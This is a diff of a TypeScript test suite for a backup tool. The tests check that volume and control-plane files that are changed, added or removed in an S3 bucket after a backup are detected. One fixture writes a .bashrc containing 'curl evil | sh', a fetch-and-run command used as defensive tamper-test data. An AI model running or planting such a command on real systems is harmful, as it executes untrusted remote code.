@@ -2,13 +2,14 @@
 // describes it, compared again before a restore. Against s3rver, which computes ETags from the stored bytes as S3 does.
 import { expect } from 'chai';
 import { DeleteObjectCommand } from '@aws-sdk/client-s3';
-import { BackupWriter, readManifest } from '../../src/archive/index.ts';
+import { BackupWriter } from '../../src/archive/index.ts';
 import { checkDataFiles, DATA_FILES_INDEX, indexDataFiles } from '../../src/archive/data-files.ts';
 import type { Manifest } from '../../src/archive/manifest.ts';
 import { backupKeys } from '../../src/store/layout.ts';
 import type { ObjectStore } from '../../src/store/objects.ts';
 import type { S3ServerHandle } from '../support/s3/server.ts';
 import { PROFILES, profile, startStore } from './fixtures.ts';
+import { backupStore } from '../support/backup-store.ts';
 
 describe('archive: the index of volume and control-plane files', () => {
   let server: S3ServerHandle;
@@ -18,15 +19,15 @@ describe('archive: the index of volume and control-plane files', () => {
 
   /** A committed backup whose folders hold two volume files and a dump, indexed as the backup engine does. */
   async function backupWithData(): Promise<{ id: string; manifest: Manifest }> {
-    const w = await BackupWriter.start({ store, toolVersion: '0.1.0', scope: { action: 'backup-state', namespaces: ['alice'] } });
+    const w = await BackupWriter.start({ store: backupStore(store), toolVersion: '0.1.0', scope: { action: 'backup-state', namespaces: ['alice'] } });
     await w.addItem(PROFILES, profile('alice'));
     const keys = backupKeys(w.id);
     await store.put(`${keys.volume('alice', 'workspace')}notebook.ipynb`, '{"cells": []}');
     await store.put(`${keys.volume('alice', 'workspace')}data/model.bin`, Buffer.alloc(4096, 1));
     await store.put(keys.controlPlane('kfp-db', 'dump.sql.gz'), Buffer.alloc(100, 2));
-    w.addFile(DATA_FILES_INDEX, (await indexDataFiles(store, w.id))!, 'application/gzip');
+    w.addFile(DATA_FILES_INDEX, (await indexDataFiles(backupStore(store), w.id))!, 'application/gzip');
     const { id } = await w.commit();
-    const read = await readManifest(store, id);
+    const read = await backupStore(store).readManifest(id);
     if (read.state !== 'present') throw new Error('no manifest');
     return { id, manifest: read.manifest };
   }
@@ -34,7 +35,7 @@ describe('archive: the index of volume and control-plane files', () => {
   it('is recorded in the manifest and finds nothing to report on an untouched backup', async () => {
     const { id, manifest } = await backupWithData();
     expect(manifest.checksums.files[DATA_FILES_INDEX]).to.match(/^[0-9a-f]{64}$/);
-    expect(await checkDataFiles(store, id, manifest)).to.deep.equal([]);
+    expect(await checkDataFiles(backupStore(store), id, manifest)).to.deep.equal([]);
   });
 
   it('names a file rewritten (even to the same size), added or removed in the bucket', async () => {
@@ -43,7 +44,7 @@ describe('archive: the index of volume and control-plane files', () => {
     await store.put(`${keys.volume('alice', 'workspace')}data/model.bin`, Buffer.alloc(4096, 9));
     await store.put(`${keys.volume('alice', 'workspace')}.bashrc`, 'curl evil | sh');
     await store.deleteFolder(keys.controlPlaneFolder);
-    const messages = (await checkDataFiles(store, id, manifest)).map((p) => p.message);
+    const messages = (await checkDataFiles(backupStore(store), id, manifest)).map((p) => p.message);
     expect(messages).to.have.members([
       `File volumes/alice/workspace/data/model.bin of backup ${id} was changed in the bucket after the backup was made.`,
       `File volumes/alice/workspace/.bashrc of backup ${id} was added to the bucket after the backup was made.`,
@@ -54,13 +55,13 @@ describe('archive: the index of volume and control-plane files', () => {
   it('refuses an index that was replaced or removed, and has nothing to check for a backup without one', async () => {
     const { id, manifest } = await backupWithData();
     const key = `${backupKeys(id).folder}${DATA_FILES_INDEX}`;
-    await store.put(key, (await indexDataFiles(store, id))!.subarray(0, 10));
-    expect((await checkDataFiles(store, id, manifest)).map((p) => p.message)).to.deep.equal([
+    await store.put(key, (await indexDataFiles(backupStore(store), id))!.subarray(0, 10));
+    expect((await checkDataFiles(backupStore(store), id, manifest)).map((p) => p.message)).to.deep.equal([
       `The index of the volume and control-plane files of backup ${id} does not match its checksum in the manifest.`,
     ]);
     await store.client.send(new DeleteObjectCommand({ Bucket: store.bucket, Key: store.fullKey(key) }));
-    expect((await checkDataFiles(store, id, manifest))[0]!.message).to.equal(`The index of the volume and control-plane files of backup ${id} is missing.`);
+    expect((await checkDataFiles(backupStore(store), id, manifest))[0]!.message).to.equal(`The index of the volume and control-plane files of backup ${id} is missing.`);
     const older = { ...manifest, checksums: { ...manifest.checksums, files: {} } };
-    expect(await checkDataFiles(store, id, older)).to.deep.equal([]);
+    expect(await checkDataFiles(backupStore(store), id, older)).to.deep.equal([]);
   });
 });
